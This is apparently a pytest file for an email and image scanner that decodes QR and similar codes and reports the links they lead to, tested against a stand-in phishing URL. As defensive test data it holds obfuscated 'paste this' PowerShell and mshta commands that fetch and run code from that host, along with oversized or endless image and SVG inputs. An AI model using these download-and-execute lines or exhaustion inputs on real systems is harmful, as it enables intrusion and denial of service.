"""Codes in pictures: what a phone would open is told as a link, whatever the picture is; hostile ones end well."""

from __future__ import annotations

import random
import re
import struct
from base64 import b64encode

import pytest
from beffroi.scan import codes, filled, kinds, looking, rules, values
from beffroi.scan import drawn as drawings
from beffroi.scan.values import Report
from PIL import Image, ImageChops

from tests import qr_pictures as pictures
from tests import scan_samples as samples
from tests.mail_files import packed
from tests.qr_pictures import drawn, written

RULES = rules.Rules({rules.OWN: rules.own()})
EVIL = "https://pay.evil.example.com/f?u=1"
CODE = drawn(EVIL)
GREY = b"/ColorSpace/DeviceGray"
INK = ImageChops.invert(CODE)
"""Of a picture that one sees through where nothing is printed."""


def look(data: bytes, codes_cpu_s: float = codes.CPU_S) -> Report:
    return looking.examine(data, RULES.matches, codes_cpu_s=codes_cpu_s)


def seen_through(ink: int) -> Image.Image:
    return Image.merge("LA", (Image.new("L", CODE.size, ink), INK))


def photo() -> Image.Image:
    image = Image.effect_noise((4000, 3000), 60)
    image.paste(drawn(EVIL, square_px=12), (2200, 1300))
    return image.convert("RGB")


def of_16_bits() -> Image.Image:
    """Where black is as white to who keeps eight of them."""
    pixels = b"".join(struct.pack("<H", 65535 if one else 300) for one in CODE.tobytes())
    return Image.frombytes("I;16", CODE.size, pixels)


def animated() -> bytes:
    """Of 5,000 frames one of the first shows the code; another one stands in the last, which is not waited for."""
    frames = [Image.new("L", CODE.size, shade) for shade in (9, 99)]
    frames[1:1], frames[3:] = [CODE], [drawn("https://a.example/")]
    whole = written(frames[0], "GIF", save_all=True, append_images=frames[1:])
    third, last = [at.start() for at in re.finditer(rb"!\xf9\x04", whole)][-2:]
    return whole[:third] + whole[third:last] * 5000 + whole[last:]


def jpeg_of_size(width: int, height: int, *, progressive: bool = False) -> bytes:
    """What claims so many pixels and has few."""
    small = written(CODE, "JPEG", progressive=progressive)
    return small.replace(struct.pack(">HH", *CODE.size), struct.pack(">HH", height, width))


PICTURES = {
    "png": lambda: written(CODE),
    "jpeg": lambda: written(CODE, "JPEG"),
    "gif": lambda: written(CODE, "GIF"),
    "bmp": lambda: written(CODE, "BMP"),
    "webp": lambda: written(CODE, "WEBP"),
    "two colours": lambda: written(CODE.convert("1")),
    "palette": lambda: written(CODE.convert("P"), transparency=255),
    "16 bits": lambda: written(of_16_bits()),
    "black on nothing": lambda: written(seen_through(0)),
    "white on nothing": lambda: written(seen_through(255)),
    "white on black": lambda: written(INK),
    "for printers": lambda: written(CODE.convert("CMYK"), "JPEG"),
    "turned": lambda: written(CODE.rotate(17, expand=True, fillcolor=255)),
    "mirrored": lambda: written(CODE.transpose(Image.Transpose.FLIP_LEFT_RIGHT)),
    "one pixel a square": lambda: written(drawn(EVIL, square_px=1, border=0)),
    "in a photo": lambda: written(photo(), "JPEG"),
    "cut off": lambda: written(CODE, "BMP")[:-900],
    "animated": animated,
    "animated, cut off": lambda: animated()[:2300],
    "many words": lambda: pictures.wordy_png(EVIL),
    "packed": lambda: packed(a__png=written(CODE)),
    "docx": lambda: pictures.docx(written(CODE)),
    "pdf": lambda: pictures.pdf(CODE),
    "pdf, jpeg": lambda: pictures.pdf(CODE, as_jpeg=True),
    "pdf, two colours": lambda: pictures.pdf(CODE.convert("1")),
    "pdf, a stencil": lambda: pictures.pdf(CODE.convert("1")).replace(
        b"/ColorSpace/DeviceGray", b"/ImageMask true       "
    ),
    "pdf, in a form": lambda: pictures.pdf(CODE, in_form=True),
    "zip behind": lambda: written(CODE) + packed(a__txt=b"x"),
}


@pytest.mark.parametrize("name", PICTURES)
def test_where_a_code_in_a_picture_leads_is_told(name: str) -> None:
    assert look(PICTURES[name]()).links == [EVIL]


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("HTTPS://EVIL.EXAMPLE/F", ["HTTPS://EVIL.EXAMPLE/F"]),
        (" https://evil.example/é", ["https://evil.example/é"]),
        ("URLTO:https://evil.example/", ["https://evil.example/"]),
        ("evil.example/f", ["http://evil.example/f"]),
        ("www.evil.example:8080?a=1", ["http://www.evil.example:8080?a=1"]),
        ("BCD\n002\n1\nSCT\n\nMairie\nFR7630006000011234567890189\nEUR12.50\n\n\nhttps://a.example", []),
        ("SPC\n0200\n1\nCH4431999123000889012", []),
        ("BEGIN:VCARD\nVERSION:3.0\nFN:Mairie\nURL:https://a.example\nEND:VCARD", []),
        ("WIFI:T:WPA;S:mairie.example;P:x;;", []),
        ("mailto:maire@a.example", []),
        ("maire@a.example", []),
        ("+33 3 80 00 00 00", []),
        ("12.50", []),
        ("Salle des fêtes, 20 h", []),
        ("javascript:alert(1)", []),
    ],
)
def test_what_opens_a_page_is_a_link_and_nothing_else(text: str, links: list[str]) -> None:
    assert look(pictures.png(text)).links == links


@pytest.mark.parametrize("name", ["Aztec", "DataMatrix"])
@pytest.mark.parametrize("square_px", [1, 4])
def test_codes_of_other_kinds_that_phones_open_lead_too(name: str, square_px: int) -> None:
    for text in (EVIL, "https://t.co/x"):
        assert look(written(pictures.of_kind(name, text, square_px=square_px))).links == [text]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("DataMatrix", "DC04FR000001FFFFFFFF1.BK01MAIRIE D'AIX"),
        ("Aztec", "i0CVFK78DUPONTMARIE2CFRPMCFRPLY"),
        ("Code128", "https://shop.example/a"),
    ],
)
def test_a_sealed_letter_a_ticket_and_the_lines_of_an_article_lead_nowhere(name: str, text: str) -> None:
    assert look(written(pictures.of_kind(name, text))).links == []


def test_two_codes_of_a_picture_are_two_links_and_the_same_one_twice_is_one() -> None:
    page = Image.new("L", (900, 300), 255)
    for n, text in enumerate((EVIL, "https://a.example/", EVIL)):
        page.paste(drawn(text), (300 * n, 0))
    assert sorted(look(written(page)).links) == ["https://a.example/", EVIL]


NO_GOOD: dict[str, tuple[bytes, list[str]]] = {
    "cut": (written(CODE)[:60], []),
    "zeros": (b"\x89PNG\r\n\x1a\n" + bytes(400), []),
    "a text": (b"BM" + b"onjour, voici la facture" * 90, []),
    "of another kind": (b"\xff\xd8\xff" + written(CODE)[3:], []),
    "a dot": (written(Image.new("L", (1, 1)), "GIF"), []),
    "pdf, other size": (pictures.pdf(CODE).replace(b"/Width ", b"/Width 9"), []),
    "pdf, no size": (pictures.pdf(CODE).replace(b"/Width 1", b"/Width/"), []),
    "huge": (pictures.png_of_size(60_000, 60_000), [kinds.UNREADABLE]),
    "huge, jpeg": (jpeg_of_size(65_535, 65_535), [kinds.UNREADABLE]),
    "wide, jpeg": (jpeg_of_size(65_535, 1_000), [kinds.UNREADABLE]),
    "large, by and by": (jpeg_of_size(10_000, 10_000, progressive=True), [kinds.UNREADABLE]),
    "huge, docx": (pictures.docx(pictures.png_of_size(60_000, 60_000)), [kinds.UNREADABLE]),
}


@pytest.mark.parametrize("name", NO_GOOD)
def test_a_picture_that_is_no_good_has_no_code_and_one_that_is_too_large_is_unreadable(name: str) -> None:
    data, found = NO_GOOD[name]
    report = look(data)
    assert (report.links, list(report.found)) == ([], found)


def test_past_its_share_of_the_processor_no_further_picture_is_opened() -> None:
    three = packed(**{f"{n}__png": pictures.png(f"https://a.example/{n}") for n in range(3)})
    assert len(look(three).links) == 3
    assert len(look(three, 1e-9).links) == 1
    assert look(three, 0).links == []


def test_codes_are_told_up_to_the_cap_of_links() -> None:
    long = "https://a.example/" + "x" * (values.MAX_LINK - 17)
    report = look(pictures.png(long))
    assert (report.links, report.more_links) == ([], True)


SIGNS = pictures.signs(EVIL)
ROWS = pictures.squares(EVIL)
SVG = pictures.svg(EVIL)
FILLED = pictures.svg(EVIL, square="M{x},{y}h1v1h-1z", around="<path d='{}'/>")
SPANS = "<br>".join(
    "".join(f"<span style='background:{'#000' if one else '#fff'}'>{'&nbsp;' * 2 * count}</span>" for one, count in
            pictures.runs(row))
    for row in ROWS
)  # fmt: skip
DRAWN: dict[str, str | bytes] = {
    "half blocks": SIGNS,
    "white on black": pictures.signs(EVIL, inverted=True),
    "blocks": "\n".join("".join("\u2588\u2588" if one else "  " for one in row) for row in ROWS),
    "squares": "\n".join("".join("\u2b1b" if one else "\u2b1c" for one in row) for row in ROWS),
    "in a page": f"<html><p>Scannez</p><pre>{SIGNS}</pre><p>Merci</p></html>",
    "in entities": f"<html><pre>{SIGNS.replace('\u2588', '&#9608;').replace('\u2580', '&uhblk;')}</pre></html>",
    "in UTF-16": f"<html><pre>{SIGNS}</pre></html>".encode("utf-16"),
    "line by line": "".join(f"<div>{line.replace(' ', '&nbsp;')}</div>\n" for line in SIGNS.splitlines()),
    "cells": pictures.table(EVIL),
    "cells in a cell": f"<html><table><tr><td><p>Scannez</p>{pictures.table(EVIL)}</td></tr></table></html>",
    "cells with a style": pictures.table(EVIL, black="style='width:4px;background-color:rgb(0,0,0)'", white=""),
    "cells with a class": "<style>.b{background:navy}</style>" + pictures.table(EVIL, black="class=b", white=""),
    "broad cells": "".join(
        "<tr>" + "".join(f"<td colspan={count} {'bgcolor=black' if one else ''}>" for one, count in pictures.runs(row))
        for row in ROWS
    ),
    "coloured blanks": f"<html>{SPANS}</html>",
    "svg": SVG,
    "svg, a path": FILLED,
    "svg, a path with a ground": FILLED.replace("<path", "<rect class='g' width='41' height='41'/><path"),
    "svg, a line": pictures.svg(
        EVIL, square="M{x} {y}.5h1", around="<path fill='#fff' d='M0 0h41v41H0z'/><path stroke='#000' d='{}'/>"
    ),
    "svg, one square again and again": pictures.svg(
        EVIL, square="<use x='{x}' y='{y}' href='#a'/>", around="<rect width='1' height='1' id='a'/>{}"
    ),
    "svg in a page": f"<html><body>{SVG}</body></html>",
    "svg in base64": f"<html><img src='data:image/svg+xml;base64,{b64encode(SVG.encode()).decode()}'></html>",
    "picture in base64": f"<img alt=x src='data:image/png;base64,{b64encode(written(CODE)).decode()}'>",
    "attached mail": samples.attached_mail(f"Content-Type: text/html; charset=utf-8\n\n{pictures.table(EVIL)}"),
    "pdf": pictures.pdf_of_shapes(EVIL),
    "pdf, in a form": pictures.pdf_of_shapes(EVIL, in_form=True),
    "pdf, lines around squares": pictures.pdf_of_shapes(EVIL, shape="{x} {y} m {x2} {y} l {x2} {y2} l {x} {y2} l h f*"),
    "pdf, one path for all": pictures.pdf_of_shapes(EVIL, shape="{x} {y} 1 1 re", around="{}\nf"),
    "pdf, upside down": pictures.pdf_of_shapes(EVIL, around="1 0 0 -1 0 60 cm {}"),
    "pdf, in colours of print": pictures.pdf_of_shapes(EVIL, around="0.9 0.8 0.1 0.6 k {}"),
    "pdf, beside a table and a title": pictures.pdf_of_shapes(
        EVIL, around="q 1 1 1 rg -130 -20 198 280 re f Q q 0 70 50 9 re S 0 80 60 .1 re f Q BT (re f \\)) Tj ET\n{}"
    ),
    "document": samples.docx(
        **{"word/document__xml": "".join(f"<w:p><w:t>{line}</w:t></w:p>" for line in SIGNS.splitlines()).encode()}
    ),
}  # fmt: skip


def as_bytes(one: str | bytes) -> bytes:
    return one.encode() if isinstance(one, str) else one


@pytest.mark.parametrize("name", DRAWN)
def test_where_a_code_leads_that_is_drawn_without_a_picture_is_told(name: str) -> None:
    report = look(as_bytes(DRAWN[name]))
    assert (report.codes, list(report.found)) == ([EVIL], [])


@pytest.mark.parametrize("name", ["in a page", "cells", "coloured blanks", "svg", "picture in base64"])
def test_of_a_text_of_a_mail_the_codes_are_told_and_nothing_else(name: str) -> None:
    text = as_bytes(DRAWN[name]) + b"<a href='https://a.example'>Voir</a><form>"
    report = looking.led_by(text, codes.CPU_S)
    assert (report.links, report.codes, report.found) == ([EVIL], [EVIL], {})


@pytest.mark.parametrize(
    "said",
    [
        f"powershell -w h -c &quot;iex (irm (&#39;{EVIL[:9]}&#39;+&#39;{EVIL[9:]}&#39;))&quot;",
        f"powershell -enc {b64encode(f'irm {EVIL} | iex'.encode('utf-16-le')).decode()}",
        f"c^m^d /c m^s^h^t^a h^ttp^s://{EVIL[8:]}",
        f"mshta https:\\u002f/{EVIL[8:]}",
    ],
)
def test_of_a_text_of_a_mail_the_command_that_it_tells_to_paste_leads(said: str) -> None:
    report = looking.led_by(f"Touche Windows + R, puis : {said}".encode(), codes.CPU_S)
    assert (report.links, report.found) == ([EVIL], {})


@pytest.mark.parametrize(
    "said",
    [
        f"MEBKM:TITLE:Amende;URL:{EVIL.replace(':', chr(92) + ':')};;",
        f"Scannez pour payer : {EVIL}",
    ],
)
def test_the_address_in_a_bookmark_or_a_text_of_a_code_is_told(said: str) -> None:
    assert codes.links(pictures.png(said)) == [EVIL]


def test_a_code_that_android_hands_to_a_browser_leads_there() -> None:
    assert codes.links(pictures.png("intent://a.example/b#Intent;scheme=https;end")) == ["http://a.example/b"]


def test_what_is_drawn_costs_files_of_the_drive_nothing_and_a_table_is_no_code() -> None:
    assert look(as_bytes(DRAWN["svg"]), 0).links == []
    budget = "".join(
        f"<tr>{''.join(f'<td bgcolor=#eee>{n}</td>' for n in range(30))}</tr>" for _ in range(40)
    )
    assert look(f"<html><table>{budget}</table></html>".encode()).links == []


def test_a_plan_and_a_table_of_a_pdf_are_no_codes() -> None:
    cells = " ".join(f"{x} {y} 4 1 re S {x} {y} 4 0.05 re f" for x in range(20) for y in range(30))
    assert look(pictures.pdf_of_shapes(EVIL, shape="", around=cells)).links == []
    plan = "0 0 1 1 re f\n" * (filled.MOST_BYTES // 13)
    assert not filled.may_draw(f"{plan} 0 0 1 1 re f".encode()) and filled.may_draw(plan[:-99].encode())


@pytest.mark.parametrize(
    "one",
    [
        b"(\\",
        b"(",
        b"<",
        b"/",
        b"1",
        b"1.",
        b"q ",
        b"1 1 9 9 re f ",
        b"1 1 m 9 9 l 5 5 l f ",
        b"9 0 0 9 0 0 cm ",
    ],
)
def test_a_page_of_a_pdf_is_read_once_whatever_is_in_it(one: bytes) -> None:
    content = b"0 0 1 1 re f " * 60 + one * (filled.MOST_BYTES // len(one) - 999)
    image = drawings.painted(filled.pieces(content))
    assert image is None or image.width * image.height < codes.MOST_PIXELS


MANY = 1_000_000
HOSTILE = {
    "cells": "<td>",
    "cells without an end": "<td ",
    "colours": "".join(f"<td bgcolor=#{n:06x}>" for n in random.Random(1).sample(range(2**24), 5000)),
    "broad cells": "<tr>" + "<td colspan=999>" * 8,
    "lines": "\u2588\u2580\u2584 " * 20 + "\n",
    "a sign a line": "\u2588\n",
    "one line": "\u2588",
    "styles": "<td class=a>.a{background:red}",
    "squares": "<svg><rect x='1' y='2' width='1' height='1'/>",
    "squares over one another": "<svg><rect width='9' height='9'/>",
    "far away": "<svg><rect x='1e999' width='1' height='1e300'/>",
    "steps": "<svg><path d='" + "h1v1h-1z" * 9000 + "'/>",
    "corners": "<svg><path d='M0 0" + "L9 1L0 5L3 9" * 9000 + "'/>" + "<path d='M0 0'/>" * 60,
    "digits": "<svg><path d='" + "1" * 99_000 + "'/>" * 60,
    "the same again": "<svg><path id='a' d='" + "h1v1h-1z" * 9000 + "'/>" + "<use href='#a' x='1'/>" * 9000,
    "itself": "<svg><use href='#a' id='a'/>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_drawn_without_an_end_makes_a_picture_that_has_one(name: str) -> None:
    one = HOSTILE[name]
    for drawing in drawings.drawings(one * (MANY // len(one))):
        image = drawing()
        assert image is None or image.width * image.height < codes.MOST_PIXELS
